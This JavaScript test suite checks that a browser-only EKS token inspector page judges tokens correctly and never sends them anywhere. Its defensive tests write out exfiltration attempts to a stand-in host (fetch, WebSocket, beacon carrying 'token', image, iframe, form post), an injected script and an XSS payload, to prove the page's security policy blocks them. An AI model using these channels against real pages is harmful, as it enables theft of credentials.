// The page in a real browser: its verdicts, and that nothing leaves it.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';

import { startChromium } from './support/chromium.mjs';
import { PAGE, vectors } from './support/files.mjs';
import { countingProxy } from './support/servers.mjs';

const HTML = readFileSync(PAGE, 'utf8');
const POLICY = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">\n/;
/** With a script that is not its own. */
const ATTACKED = HTML.replace('</main>', '</main><script>document.title = "run"</script>');
/** Where a server has the page, the page without its policy, and the same with that script. */
const ADDRESSES = ['', 'unguarded', 'attacked', 'attacked-unguarded'].map(
  (name) => `http://page.example/${name}`,
);
const OUTSIDE = 'http://outside.example';

// The page has no choice of partition: the host's own is that of the cluster.
const ALL = vectors('inspections.json').filter(({ name }) => name !== 'server-of-another-partition');
const GOOD = ALL.find(({ name }) => name === 'good');

let chromium;
let proxy;

before(async () => {
  const pages = [HTML, ATTACKED].flatMap((html) => [html, html.replace(POLICY, '')]);
  proxy = await countingProxy(Object.fromEntries(pages.map((html, at) => [ADDRESSES[at], html])));
  chromium = await startChromium(proxy.address);
});

after(async () => {
  await chromium?.close();
  await proxy?.close();
});

/** The page from its file, with the clock standing at `now`. */
async function open(now = GOOD.now) {
  const page = await chromium.context.newPage();
  page.errors = [];
  page.on('pageerror', ({ message }) => page.errors.push(message));
  page.on('console', (message) => page.errors.push(message.text()));
  await page.clock.install({ time: now * 1000 });
  await page.clock.pauseAt(now * 1000);
  await page.goto(pathToFileURL(PAGE).href);
  return page;
}

const field = (page) => page.getByLabel('Token, or the output of get-token');
const status = (page) => page.getByRole('status');

describe('verdicts', () => {
  test('32 tokens, good and bad, get the verdict of the core', async () => {
    assert.equal(ALL.length, 32);
    const page = await open();
    for (const { name, token, now, expected } of ALL) {
      await page.clock.pauseAt(now * 1000).catch(() => page.clock.setSystemTime(now * 1000));
      await field(page).fill(token);
      const { server, findings, claims } = expected;
      const codes = (id) => page.locator(`#${id} code`).allTextContents();
      assert.deepEqual(await codes('server-reasons'), server === null ? [] : [server.case], name);
      assert.deepEqual(await codes('sts-reasons'), findings, name);
      const title = await page.locator('#status .verdict').textContent();
      assert.equal(title, titleOf(expected), name);
      const facts = await page.locator('#facts dd').allTextContents();
      assert.equal(facts[0], claims?.['sts-host'], name);
    }
    assert.deepEqual(page.errors, []);
  });

  test('the facts are all there', async () => {
    const page = await open();
    await field(page).fill(GOOD.token);
    const facts = await page.locator('#facts > div').evaluateAll((rows) =>
      rows.map((row) => [row.children[0].textContent, row.children[1].firstChild.textContent]));
    assert.deepEqual(facts, [
      ['STS host', 'sts.eu-central-1.amazonaws.com'],
      ['Region', 'eu-central-1'],
      ['Partition', 'aws'],
      ['Access key id', 'ASIAEXAMPLE'],
      ['Session token', 'yes'],
      ['Signed', '2023-11-14 22:13:20 UTC'],
      ['Refused from', '2023-11-14 22:28:20 UTC'],
      ['Signed headers', 'host, x-k8s-aws-id'],
    ]);
  });

  test('a token is found behind Bearer, among blanks and in an ExecCredential', async () => {
    const page = await open();
    const credential = JSON.stringify({ kind: 'ExecCredential', status: { token: GOOD.token } });
    for (const text of [`\n  ${GOOD.token}\n`, `Authorization: Bearer ${GOOD.token}`, credential]) {
      await field(page).fill(text);
      assert.match(await status(page).textContent(), /^No fault/);
    }
    for (const text of ['{', '{}', '[1]', '"']) {
      await field(page).fill(text);
      assert.match(await status(page).textContent(), /refuse/);
    }
  });

  test('it counts down, and says once that the token is dead', async () => {
    const page = await open();
    await field(page).fill(GOOD.token);
    const countdown = page.getByRole('timer');
    assert.equal(await countdown.textContent(), '15 min left');
    await page.evaluate(() => {
      globalThis.said = [];
      const note = () => said.push(document.querySelector('#status .verdict').textContent);
      new MutationObserver(note).observe(document.getElementById('status'), { childList: true });
    });
    await page.clock.runFor(61_000);
    assert.equal(await countdown.textContent(), '13 min 59 s left');
    assert.deepEqual(await page.evaluate(() => said), []);
    await page.clock.runFor((900 - 61) * 1000);
    assert.equal(await countdown.textContent(), '0 s left');
    await page.clock.runFor(90_000);
    assert.equal(await countdown.textContent(), 'Dead for 1 min 30 s');
    assert.deepEqual(await page.evaluate(() => said), ['This token is dead']);
  });

  test('texts in a token stay texts', async () => {
    const page = await open();
    const url = 'https://sts.amazonaws.com/?<img src=x onerror=alert(1)>=1';
    const token = `k8s-aws-v1.${Buffer.from(url.replaceAll(' ', '%20')).toString('base64url')}`;
    await field(page).fill(token);
    await page.locator('#server-reasons').getByText('<img src').waitFor();
    assert.equal(await page.locator('#report img').count(), 0);
  });
});

describe('nothing leaves the page', () => {
  for (const [from, address] of [['a disk', pathToFileURL(PAGE).href], ['a server', ADDRESSES[0]]]) {
    test(`none of 32 tokens makes it ask for anything, from ${from}`, async () => {
      proxy.asked.length = 0;
      const page = await chromium.context.newPage();
      const requests = [];
      page.on('request', (request) => requests.push(request.url()));
      await page.goto(address);
      for (const { token } of ALL) {
        await field(page).fill(token);
        await page.getByRole('button', { name: 'Inspect' }).click();
      }
      await page.getByRole('button', { name: 'Clear' }).click();
      assert.deepEqual(requests, [address]);
      await seen(page);
      assert.deepEqual(proxy.asked, []);
    });
  }

  // Each attempt is made twice: under the policy, where the counter must see nothing, and without
  // it, where it must see it. So the counter counts, and it is the policy that stops it.
  for (const [name, attempt] of Object.entries(attempts())) {
    test(`the policy stops ${name}`, async () => {
      const page = await chromium.context.newPage();
      proxy.asked.length = 0;
      await page.goto(ADDRESSES[0]);
      await page.evaluate(attempt, OUTSIDE).catch(() => {});
      await seen(page);
      assert.deepEqual(proxy.asked, []);

      await page.goto(ADDRESSES[1]);
      const asked = proxy.next();
      await page.evaluate(attempt, OUTSIDE).catch(() => {});
      await asked;
      assert.match(proxy.asked[0], /outside\.example/);
      await page.close();
    });
  }

  test('a script that is not the page\'s own does not run', async () => {
    const page = await chromium.context.newPage();
    await page.goto(ADDRESSES[2]);
    assert.equal(await page.title(), 'EKS token inspector');
    await page.goto(ADDRESSES[3]);
    assert.equal(await page.title(), 'run');
  });

  test('the policy names this very script and style, and is the one that is documented', () => {
    const [, policy] = HTML.match(POLICY);
    for (const [element, directive] of [['script', 'script-src'], ['style', 'style-src']]) {
      const [, text] = HTML.match(new RegExp(`<${element}>(.*?)</${element}>`, 's'));
      const hash = createHash('sha256').update(text).digest('base64');
      assert.ok(policy.includes(`${directive} 'sha256-${hash}'`), element);
    }
    for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'",
      "base-uri 'none'", "'wasm-unsafe-eval'"]) {
      assert.ok(policy.includes(directive), directive);
    }
    assert.ok(!/unsafe-inline|'unsafe-eval'|https?:|\*/.test(policy));
  });

  test('the token is kept nowhere', async () => {
    const page = await open();
    await field(page).fill(GOOD.token);
    const stores = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      cookie: document.cookie,
      address: location.search + location.hash,
      bases: (await indexedDB.databases()).length,
    }));
    assert.deepEqual(stores, { local: 0, session: 0, cookie: '', address: '', bases: 0 });
    await page.reload();
    assert.equal(await field(page).inputValue(), '');
    await field(page).fill(GOOD.token);
    await page.goto('about:blank');
    await page.goBack();
    assert.equal(await field(page).inputValue(), '');
  });
});

/** What a page might try, in the page. */
function attempts() {
  return {
    fetch: (to) => fetch(`${to}/fetch`),
    'a WebSocket': (to) => void new WebSocket(`${to.replace('http', 'ws')}/socket`),
    'an EventSource': (to) => void new EventSource(`${to}/events`),
    'a beacon': (to) => navigator.sendBeacon(`${to}/beacon`, 'token'),
    'an image': (to) => void (new Image().src = `${to}/image`),
    'a frame': (to) => {
      const frame = document.createElement('iframe');
      frame.src = `${to}/frame`;
      document.body.append(frame);
    },
    'a style sheet': (to) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${to}/style`;
      document.head.append(link);
    },
    'a form': (to) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${to}/form`;
      document.body.append(form);
      form.submit();
    },
  };
}

/** Resolves when the browser has had its chance to send what was asked of it before. */
async function seen(page) {
  const request = proxy.next();
  const other = await page.context().newPage();
  await other.goto('http://marker.example/');
  await request;
  await other.close();
  const marker = proxy.asked.findIndex((asked) => asked.includes('marker.example'));
  proxy.asked.splice(marker, 1);
}

function titleOf({ server, findings }) {
  if (server !== null) {
    return server.case === 'expired' ? 'This token is dead' : 'A server would refuse it';
  }
  return findings.length > 0 ? 'STS would refuse it' : 'No fault to be seen';
}
